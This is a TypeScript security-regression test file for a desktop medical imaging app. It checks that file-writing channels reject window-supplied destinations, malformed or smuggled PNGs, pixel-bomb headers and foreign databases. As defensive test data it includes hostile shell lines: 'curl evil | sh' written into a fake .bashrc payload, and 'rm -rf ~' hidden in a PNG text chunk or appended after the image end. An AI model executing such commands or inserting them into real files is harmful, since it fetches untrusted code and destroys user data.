// Issue #14, finding 1: a window must never name where main writes. Every channel that writes takes no
// path from the window; main names the file in the export folder, validates what it writes (a PNG is
// checked whole and re-encoded) and never replaces an existing file. Requests are sent as the window's
// own transports send them (an authenticated bridge page), through the one registry.
import Database from 'better-sqlite3';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { crc32 } from 'node:zlib';
import { PNG } from 'pngjs';
import { z } from 'zod';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contracts } from '../../../src-shared/contracts';
import type { Result } from '../../../src-shared/ipc/envelope';
import { writeFileAtomic } from '../../../src-main/fs/atomic-write';
import { createServices, type Services } from '../../../src-main/services';
import { tempDir } from '../store/helpers/store-helpers';

let services: Services;
let tmp: { dir: string; cleanup: () => void };
let home: string;
const sha = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');
const sink = { id: 'window-1', send: () => {}, isAlive: () => true };

/** A request as an authenticated browser-mode window sends it. */
function fromWindow(channel: string, payload: unknown): Promise<Result<unknown>> {
  return services.registry.dispatch(channel, payload, { sink, sender: { transport: 'bridge', origin: 'http://127.0.0.1:1', isMainFrame: true, authenticated: true } });
}

function pngBytes(width: number, height: number): Buffer {
  const png = new PNG({ width, height });
  for (let i = 0; i < png.data.length; i += 4) png.data.set([i % 251, (i >> 3) % 255, 77, 255], i);
  return PNG.sync.write(png);
}

beforeAll(async () => {
  tmp = tempDir('healthgpt-writes-');
  home = path.join(tmp.dir, 'home');
  mkdirSync(home);
  writeFileSync(path.join(home, '.bashrc'), 'echo safe\n');
  services = await createServices({ mode: 'test', dataDir: path.join(tmp.dir, 'data') });
  await services.history.recordCase({ caseId: 'case-1', patientId: 'P1', patientName: 'Doe^J', studies: [] });
  await services.history.recordCompletedRun({
    run: { runId: 'run-1', caseId: 'case-1', task: 'vqa', prompt: 'What is shown?', packId: 'healthgpt-nano@test', packHash: 'a'.repeat(64), plugin: 'comprehension', executionProvider: 'cpu', params: {}, seed: null, startedAt: Date.now(), inputSeriesIds: [] },
    outputs: [{ outputId: 'out-1', runId: 'run-1', kind: 'text', text: 'An axial MR slice.', artifacts: [] }],
    end: { runId: 'run-1', status: 'succeeded' },
  });
});
afterAll(async () => {
  await services?.close();
  tmp?.cleanup();
});

describe('channels that write take no path from the window', () => {
  it('export-png with a destination (the reported attack: ~/.bashrc with PNG magic and shell lines) is refused, the file untouched', async () => {
    const bashrc = path.join(home, '.bashrc');
    const before = sha(bashrc);
    const payload = new Uint8Array(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), Buffer.from('\ncurl evil | sh\n')]));
    const r = await fromWindow('workflow:export-png', { destination: bashrc, png: payload });
    expect(r).toMatchObject({ ok: false, error: { code: 'BAD_REQUEST' } });
    expect(sha(bashrc)).toBe(before);
  });

  it('a PNG that is only the magic bytes, a truncated one and one with a broken CRC are refused, nothing written', async () => {
    const good = pngBytes(32, 16);
    const brokenCrc = Buffer.from(good);
    brokenCrc[brokenCrc.length - 20]! ^= 0xff; // inside the IDAT chunk: its CRC no longer matches
    for (const bad of [Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('echo owned\n'.repeat(5))]), good.subarray(0, good.length - 30), brokenCrc]) {
      const r = await fromWindow('workflow:export-png', { png: new Uint8Array(bad) });
      expect(r).toMatchObject({ ok: false, error: { code: 'BAD_REQUEST' } });
      expect((r as { error: { message: string } }).error.message).toMatch(/not a valid PNG.*nothing was written/);
    }
    expect(existsSync(services.exports.folder) ? readdirSync(services.exports.folder) : []).toEqual([]);
  });

  it('a PNG header declaring 100000² pixels is refused before anything is inflated', async () => {
    const bomb = pngBytes(4, 4);
    bomb.writeUInt32BE(100_000, 16);
    bomb.writeUInt32BE(100_000, 20);
    const r = await fromWindow('workflow:export-png', { png: new Uint8Array(bomb) });
    expect(r).toMatchObject({ ok: false, error: { code: 'BAD_REQUEST', message: expect.stringContaining('100000×100000') } });
  });

  it('a valid PNG is written re-encoded in the export folder: same pixels, a smuggled chunk does not survive; bytes after IEND are refused', async () => {
    const good = pngBytes(40, 20);
    // A well-formed ancillary text chunk carrying shell lines, placed right after IHDR (8 + 25 bytes).
    const text = Buffer.from('Comment\0#!/bin/sh\nrm -rf ~\n');
    const chunk = Buffer.alloc(12 + text.length);
    chunk.writeUInt32BE(text.length, 0);
    chunk.write('tEXt', 4, 'latin1');
    text.copy(chunk, 8);
    chunk.writeUInt32BE(crc32(chunk.subarray(4, 8 + text.length)), 8 + text.length);
    const smuggled = Buffer.concat([good.subarray(0, 33), chunk, good.subarray(33)]);
    const r = (await fromWindow('workflow:export-png', { png: new Uint8Array(smuggled) })) as Result<{ path: string; bytes: number }>;
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(path.dirname(r.value.path)).toBe(services.exports.folder);
    const written = readFileSync(r.value.path);
    expect(written.includes(Buffer.from('rm -rf'))).toBe(false);
    expect(PNG.sync.read(written).data.equals(PNG.sync.read(good).data)).toBe(true);
    const appended = await fromWindow('workflow:export-png', { png: new Uint8Array(Buffer.concat([good, Buffer.from('\nrm -rf ~\n')])) });
    expect(appended).toMatchObject({ ok: false, error: { code: 'BAD_REQUEST' } });
  });

  it('report, series, case export and backup refuse a destination; a report goes to the export folder under a name main made', async () => {
    const target = path.join(home, 'report.md');
    for (const [channel, payload] of [
      ['workflow:export-report', { runId: 'run-1', destination: target }],
      ['workflow:export-series', { generatedSeriesUid: '1.2.3', destination: home }],
      ['history:export-case', { caseId: 'case-1', destination: path.join(home, 'x.zip') }],
      ['history:backup', { destination: path.join(home, 'x.db') }],
    ] as const) {
      expect(await fromWindow(channel, payload), channel).toMatchObject({ ok: false, error: { code: 'BAD_REQUEST' } });
    }
    expect(readdirSync(home)).toEqual(['.bashrc']);
    const r = (await fromWindow('workflow:export-report', { runId: 'run-1' })) as Result<{ path: string }>;
    expect(r.ok && path.dirname(r.value.path)).toBe(services.exports.folder);
    expect(r.ok && readFileSync(r.value.path, 'utf8')).toContain('An axial MR slice.');
  });

  it('open-store and restore-from-backup accept only files of the data folder: a foreign database stays byte-identical', async () => {
    const foreign = path.join(home, 'places.sqlite');
    const db = new Database(foreign);
    db.exec('CREATE TABLE t(x); INSERT INTO t VALUES (1);');
    db.close();
    const before = sha(foreign);
    const open = await fromWindow('history:open-store', { path: foreign });
    expect(open).toMatchObject({ ok: false, error: { code: 'BAD_REQUEST', message: expect.stringContaining('must be inside') } });
    const restore = await fromWindow('history:restore-from-backup', { backupPath: foreign });
    expect(restore).toMatchObject({ ok: false });
    // A link inside the data folder pointing out of it is judged by where it points.
    const { symlinkSync } = await import('node:fs');
    symlinkSync(foreign, path.join(services.dataDir, 'link.db'));
    expect(await fromWindow('history:open-store', { path: path.join(services.dataDir, 'link.db') })).toMatchObject({ ok: false, error: { code: 'BAD_REQUEST' } });
    expect(sha(foreign)).toBe(before);
    expect((await services.history.status()).state).toBe('open');
  });

  it('every request schema of every channel: no field names a place to write (the read-only ones are listed and justified)', () => {
    // Paths a window may name, each only read: files to import or probe, a pack to verify or load (its
    // signature is checked), an image for a question, and the store files, confined to the data folder above.
    const readOnly = new Set(['dicom:import.paths', 'dicom:probe.paths', 'model:verify-pack.path', 'model:load-pack.path', 'history:open-store.path', 'history:restore-from-backup.backupPath']);
    const found: string[] = [];
    /** Every field name in a schema, nested ones as a.b, through objects, unions, optionals, defaults, arrays and pipes. */
    const walk = (schema: unknown, where: string): void => {
      const def = (schema as { _zod?: { def?: Record<string, unknown> } })._zod?.def;
      if (!def) return;
      if (def.type === 'object') {
        for (const [key, child] of Object.entries(def.shape as Record<string, unknown>)) {
          if (/dest|path|folder|file|out|target|dir/i.test(key)) found.push(`${where}.${key}`);
          walk(child, `${where}.${key}`);
        }
      }
      for (const option of (def.options as unknown[] | undefined) ?? []) walk(option, where);
      for (const inner of [def.innerType, def.element, def.in]) if (inner) walk(inner, where);
    };
    for (const domain of Object.values(contracts) as Array<Record<string, { channel: string; request: z.ZodType }>>) {
      for (const op of Object.values(domain)) walk(op.request, op.channel);
    }
    expect(found.length).toBeGreaterThanOrEqual(readOnly.size);
    expect(found.filter((f) => !readOnly.has(f))).toEqual([]);
  });
});

describe('writeFileAtomic without overwrite', () => {
  it('refuses an existing file and leaves it and no temp file behind', () => {
    const dir = path.join(tmp.dir, 'atomic');
    mkdirSync(dir);
    const file = path.join(dir, 'a.txt');
    writeFileSync(file, 'original');
    expect(() => writeFileAtomic(file, 'replacement', { overwrite: false })).toThrow(/EEXIST/);
    expect(readFileSync(file, 'utf8')).toBe('original');
    expect(readdirSync(dir)).toEqual(['a.txt']);
    writeFileAtomic(path.join(dir, 'b.txt'), 'new', { overwrite: false });
    expect(readFileSync(path.join(dir, 'b.txt'), 'utf8')).toBe('new');
    rmSync(dir, { recursive: true });
  });
});

